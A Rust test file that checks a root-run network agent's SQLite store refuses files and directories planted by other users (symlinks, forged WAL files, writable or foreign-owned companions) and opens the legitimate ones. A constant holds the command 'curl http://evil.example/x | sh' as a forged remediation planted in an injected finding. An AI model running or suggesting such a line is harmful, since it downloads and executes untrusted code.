//! Paths another user prepared: a symbolic link at the database path, a directory they own
//! or can write, a `-wal`, `-shm` or `-journal` file of theirs (forged, or held open to
//! read what root writes into it). Each is refused before SQLite reads or writes anything;
//! the healthy twins (root's own files and directories) open.

use std::io::Read;
use std::os::unix::fs::{MetadataExt, PermissionsExt};

use super::*;
use crate::daemon::store::problem::with_suffix;

const NOBODY: u32 = 65534;
const FORGED_FIX: &str = "curl http://evil.example/x | sh";

fn chown(path: &Path, uid: u32) {
    std::os::unix::fs::lchown(path, Some(uid), Some(uid)).expect("chown");
}

fn chmod(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).expect("chmod");
}

fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path).expect("lstat").mode() & 0o7777
}

/// The problems of an [`StoreError::Untrusted`], or a panic naming what came instead.
fn problems(err: StoreError) -> Vec<crate::daemon::store::Problem> {
    match err {
        StoreError::Untrusted { problems, .. } => problems.0,
        other => panic!("expected Untrusted, got {other:?}"),
    }
}

fn forged() -> Finding {
    Finding {
        id: "rt.injected".into(),
        severity: Severity::Critical,
        summary: "forged".into(),
        evidence: BTreeMap::new(),
        fix: FORGED_FIX.into(),
        reference: None,
        subject: None,
        unknown: Default::default(),
    }
}

/// Makes `db` the agent's database, closed, and puts next to it a real WAL written through
/// SQLite on a copy: it holds the finding `rt.injected`. Returns the database's bytes.
fn plant_forged_wal(db: &Path) -> Vec<u8> {
    drop(Store::open(db, Retention::default()).expect("the agent's database"));
    let work = tempdir();
    let copy = work.path().join("s.db");
    std::fs::copy(db, &copy).expect("copy");
    let forger = Store::open(&copy, Retention::default()).expect("open the copy");
    forger.record("wg0", 1, &[forged()]).expect("forge");
    // Copied while the forger is open: its WAL is not checkpointed yet.
    std::fs::copy(with_suffix(&copy, "-wal"), with_suffix(db, "-wal")).expect("plant");
    drop(forger);
    std::fs::read(db).expect("read the database")
}

fn injected(store: &Store) -> bool {
    let all = store.active_findings().expect("active findings");
    all.iter()
        .any(|f| f.id == "rt.injected" && f.fix == FORGED_FIX)
}

#[test]
fn a_symlink_at_the_database_path_is_refused_and_its_target_untouched() {
    if !crate::testing::root_or_skip("to give files to another user") {
        return;
    }
    // A root-owned (empty) file: SQLite would make it a database.
    let elsewhere = tempdir();
    let target = elsewhere.path().join("root-owned");
    std::fs::write(&target, "").expect("target");
    chmod(&target, 0o644);
    // (directory mode, owner): the user's own directory, sticky /tmp, root's own directory.
    for (dir_mode, dir_owner) in [(0o755, NOBODY), (0o1777, 0), (0o700, 0)] {
        let dir = tempdir();
        let link = dir.path().join("s1.db");
        std::os::unix::fs::symlink(&target, &link).expect("symlink");
        chown(&link, if dir_owner == 0 { 0 } else { NOBODY });
        chmod(dir.path(), dir_mode);
        chown(dir.path(), dir_owner);

        let err = Store::open(&link, Retention::default()).expect_err("must refuse");
        let msg = err.to_string();
        let found = problems(err);
        assert!(
            found
                .iter()
                .any(|p| matches!(p, Problem::Symlink { target: t, .. } if *t == target)),
            "mode {dir_mode:o}: {found:?}"
        );
        assert!(msg.contains("symbolic link"), "{msg}");
        assert_eq!(std::fs::metadata(&target).expect("target").len(), 0);
        assert_eq!(mode(&target), 0o644, "the target keeps its mode");
        assert!(!with_suffix(&target, "-wal").exists());
        assert!(!with_suffix(&link, "-wal").exists());
    }
}

#[test]
fn directories_with_symlinks_set_up_by_root_resolve_and_open() {
    // The healthy twin: a symbolic link among the directories is the administrator's.
    let dir = tempdir();
    std::fs::create_dir(dir.path().join("real")).expect("mkdir");
    chmod(&dir.path().join("real"), 0o700);
    std::os::unix::fs::symlink("real", dir.path().join("link")).expect("symlink");
    let store = Store::open(&dir.path().join("link/h.db"), Retention::default()).expect("open");
    assert_eq!(store.integrity_check().expect("check"), "ok");
    assert!(dir.path().join("real/h.db").is_file());
}

#[test]
fn a_directory_others_can_write_is_refused_and_the_database_untouched() {
    for dir_mode in [0o777, 0o775, 0o757, 0o1777] {
        let dir = tempdir();
        let db = dir.path().join("s.db");
        drop(Store::open(&db, Retention::default()).expect("open"));
        let before = std::fs::read(&db).expect("read");
        chmod(dir.path(), dir_mode);
        let err = Store::open(&db, Retention::default()).expect_err("must refuse");
        let msg = err.to_string();
        assert_eq!(
            problems(err),
            [Problem::WritableDir {
                dir: dir.path().to_path_buf(),
                mode: dir_mode
            }],
            "mode {dir_mode:o}"
        );
        assert!(msg.contains("writable by other users"), "{msg}");
        assert_eq!(std::fs::read(&db).expect("read"), before);
        assert_eq!(mode(dir.path()), dir_mode, "the directory keeps its mode");
        chmod(dir.path(), 0o700);
    }
}

#[test]
fn an_empty_directory_of_roots_others_can_write_is_made_private_and_opens() {
    // A fresh Kubernetes emptyDir is 0777 and empty: nobody else prepared anything in it.
    let dir = tempdir();
    let vol = dir.path().join("history");
    std::fs::create_dir(&vol).expect("mkdir");
    chmod(&vol, 0o777);
    let store = Store::open(&vol.join("netdoctor.db"), Retention::default()).expect("open");
    assert_eq!(mode(&vol), 0o700);
    assert_eq!(store.integrity_check().expect("check"), "ok");
    // Sticky (shared on purpose, like /tmp): never changed, refused.
    let shared = dir.path().join("shared");
    std::fs::create_dir(&shared).expect("mkdir");
    chmod(&shared, 0o1777);
    let err = Store::open(&shared.join("netdoctor.db"), Retention::default());
    assert!(matches!(err, Err(StoreError::Untrusted { .. })), "{err:?}");
    assert_eq!(mode(&shared), 0o1777);
}

#[test]
fn a_sticky_ancestor_with_a_private_directory_below_opens() {
    // The fix the message gives for /tmp: a new directory netdoctor creates under it.
    let dir = tempdir();
    chmod(dir.path(), 0o1777);
    let db = dir.path().join("netdoctor/netdoctor.db");
    let store = Store::open(&db, Retention::default()).expect("open");
    assert_eq!(mode(&dir.path().join("netdoctor")), 0o700);
    drop(store);
    // And again, now that it exists.
    drop(Store::open(&db, Retention::default()).expect("reopen"));
    chmod(dir.path(), 0o700);
}

#[test]
fn a_directory_another_user_owns_is_refused_also_above_the_database() {
    if !crate::testing::root_or_skip("to give files to another user") {
        return;
    }
    let top = tempdir();
    let theirs = top.path().join("theirs");
    let mine = theirs.join("mine");
    std::fs::create_dir_all(&mine).expect("mkdir");
    chmod(&theirs, 0o755);
    chmod(&mine, 0o700);
    let db = mine.join("s.db");
    drop(Store::open(&db, Retention::default()).expect("open"));
    // They own the directory above: they could rename `mine` and put their own in its place.
    chown(&theirs, NOBODY);
    let err = Store::open(&db, Retention::default()).expect_err("must refuse");
    assert_eq!(
        problems(err),
        [Problem::ForeignDir {
            dir: theirs.clone(),
            owner: NOBODY
        }]
    );
    // The database's own directory.
    chown(&theirs, 0);
    chown(&mine, NOBODY);
    let err = Store::open(&db, Retention::default()).expect_err("must refuse");
    assert!(err.to_string().contains("uid 65534"), "{err}");
    chown(&mine, 0);
    drop(Store::open(&db, Retention::default()).expect("root's again: opens"));
}

#[test]
fn a_forged_wal_is_refused_and_not_replayed() {
    if !crate::testing::root_or_skip("to give files to another user") {
        return;
    }
    // The user owns the directory (the case), or only the WAL.
    for user_owns_dir in [true, false] {
        let dir = tempdir();
        let db = dir.path().join("s.db");
        let before = plant_forged_wal(&db);
        let wal = with_suffix(&db, "-wal");
        let wal_bytes = std::fs::read(&wal).expect("wal");
        chown(&wal, NOBODY);
        if user_owns_dir {
            chmod(dir.path(), 0o755);
            chown(dir.path(), NOBODY);
        }
        let err = Store::open(&db, Retention::default()).expect_err("must refuse");
        let msg = err.to_string();
        let found = problems(err);
        assert!(
            found.contains(&Problem::ForeignFile {
                path: wal.clone(),
                owner: NOBODY
            }),
            "{found:?}"
        );
        assert!(msg.contains("s.db-wal belongs to uid 65534") && msg.contains("remove it"));
        assert_eq!(std::fs::read(&db).expect("db"), before, "nothing replayed");
        assert_eq!(
            std::fs::read(&wal).expect("wal"),
            wal_bytes,
            "the WAL untouched"
        );
        assert!(!with_suffix(&db, "-shm").exists(), "SQLite never opened it");
    }
}

#[test]
fn roots_own_wal_is_replayed() {
    // The healthy twin: the WAL a killed agent left is root's, and holds committed rows.
    if !crate::testing::root_or_skip("to give files to another user") {
        return;
    }
    let dir = tempdir();
    let db = dir.path().join("s.db");
    plant_forged_wal(&db);
    let store = Store::open(&db, Retention::default()).expect("open");
    assert!(injected(&store), "the WAL's rows are read");
}

#[test]
fn companions_another_user_created_and_holds_open_are_refused() {
    if !crate::testing::root_or_skip("to give files to another user") {
        return;
    }
    // Root's private directory, and a sticky one like /tmp (the case).
    for dir_mode in [0o700, 0o1777] {
        for suffix in ["-wal", "-shm", "-journal"] {
            let dir = tempdir();
            chmod(dir.path(), dir_mode);
            let db = dir.path().join("s6.db");
            let companion = with_suffix(&db, suffix);
            std::fs::write(&companion, "").expect("create");
            chown(&companion, NOBODY);
            chmod(&companion, 0o666);
            // The user's descriptor, opened before the agent starts.
            let mut held = std::fs::File::open(&companion).expect("hold");

            let err = Store::open(&db, Retention::default()).expect_err("must refuse");
            let found = problems(err);
            assert!(
                found.contains(&Problem::ForeignFile {
                    path: companion.clone(),
                    owner: NOBODY
                }),
                "{suffix} in a directory of mode {dir_mode:o}: {found:?}"
            );
            let mut read = Vec::new();
            held.read_to_end(&mut read).expect("read");
            assert!(
                read.is_empty(),
                "{suffix}: the held descriptor read history"
            );
            let meta = std::fs::metadata(&companion).expect("metadata");
            assert_eq!((meta.uid(), meta.mode() & 0o777), (NOBODY, 0o666));
            assert!(!db.exists(), "{suffix}: nothing created next to it");
        }
    }
}

#[test]
fn a_database_or_companion_others_can_write_is_refused() {
    for (suffix, file_mode) in [
        ("", 0o666),
        ("", 0o620),
        ("-wal", 0o602),
        ("-journal", 0o660),
    ] {
        let dir = tempdir();
        let db = dir.path().join("s.db");
        drop(Store::open(&db, Retention::default()).expect("open"));
        let file = with_suffix(&db, suffix);
        if !file.exists() {
            std::fs::write(&file, "").expect("create");
        }
        chmod(&file, file_mode);
        let err = Store::open(&db, Retention::default()).expect_err("must refuse");
        assert!(
            err.to_string()
                .contains(&format!("chmod 600 {}", file.display())),
            "{err}"
        );
        assert_eq!(
            problems(err),
            [Problem::WritableFile {
                path: file.clone(),
                mode: file_mode
            }]
        );
        assert_eq!(mode(&file), file_mode, "left as it was");
    }
}
